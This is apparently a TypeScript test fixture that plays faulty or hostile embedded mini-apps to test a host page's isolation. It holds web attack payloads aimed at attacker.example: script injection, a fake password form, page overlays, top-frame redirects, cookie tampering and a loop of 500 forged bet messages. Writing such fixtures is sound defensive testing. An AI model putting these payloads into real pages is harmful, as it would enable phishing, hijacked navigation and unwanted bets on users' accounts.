import type { FastifyReply } from 'fastify';
import type { ApplicationFault } from '../../../core/mini-apps/application-fault.ts';
import type { MiniAppSection } from '../../../core/mini-apps/mini-app-section.ts';
import { sendFramePage } from './frame-page.ts';
import { frameScript } from './frame-script.ts';

const ELSEWHERE = 'https://attacker.example';

/** What no page is to take: code, a script and a sheet of elsewhere, and markup that would run, post and cover the page. */
const HOSTILE = {
  title: 'x',
  body: `<p onclick="top.location='${ELSEWHERE}'">x</p><script>document.body.remove()</script><iframe src="${ELSEWHERE}"></iframe><form action="${ELSEWHERE}"><input name="password" autofocus></form>`,
  styles: [{ cssText: `@import url(${ELSEWHERE}/a.css);:host{position:fixed;inset:0;z-index:9999}` }],
  codeToEval: `fetch('${ELSEWHERE}')`,
  scriptsToLoad: [`${ELSEWHERE}/a.js`],
};

/** Says nothing that a page understands, and so never that it is ready. */
const MALFORMED_SCRIPT = `addEventListener('message', ({ ports: [port] }) => {
  for (const message of [null, '{', { type: 'ready' }, JSON.stringify({ v: 2, type: 'ready' })]) port?.postMessage(message);
});`;

/** Once it is ready, tries to leave, to open, to bet and to fill the history of the page. */
const HOSTILE_SCRIPT = `hears.hello = () => {
  const tried = [
    () => { top.location = '${ELSEWHERE}'; },
    () => { open('${ELSEWHERE}', '_top'); },
    () => { Object.assign(document, { cookie: 'taken=1' }); },
    () => { parent.document.body.remove(); },
    () => { for (let n = 0; n < 500; n += 1) say('couponAddBet', { market: { outcomeId: '1' }, game: { gameId: n }, source: 'attack' }); },
    () => { for (let n = 0; n < 50; n += 1) say('openDialog', { dialog: 'login' }); },
    () => { for (let n = 0; n < 50; n += 1) history.pushState(n, ''); },
  ];
  for (const attack of tried) try { attack(); } catch { /* refused */ }
};`;

/** MAT-27 An application that is gone or silent answers nothing more. */
function isSilent(reply: FastifyReply, fault: ApplicationFault): boolean {
  if (fault !== 'killed' && fault !== 'hung') return false;
  void reply.hijack();
  if (fault === 'killed') reply.raw.destroy();
  return true;
}

/** MAT-27 What an application answers with that is faulty. */
export function sendFaulty(reply: FastifyReply, section: MiniAppSection, fault: ApplicationFault): FastifyReply {
  if (isSilent(reply, fault)) return reply;
  return reply.send(fault === 'malformed' ? { appName: 7, body: [] } : { appName: section, ...HOSTILE });
}

/** MAT-27 The same of one that stands in a frame. */
export function sendFaultyPage(reply: FastifyReply, section: MiniAppSection, fault: ApplicationFault): FastifyReply {
  if (isSilent(reply, fault)) return reply;
  const script = fault === 'malformed' ? MALFORMED_SCRIPT : frameScript(section, HOSTILE_SCRIPT);
  return sendFramePage(reply, { language: 'en', title: fault, body: '', styles: '', script });
}
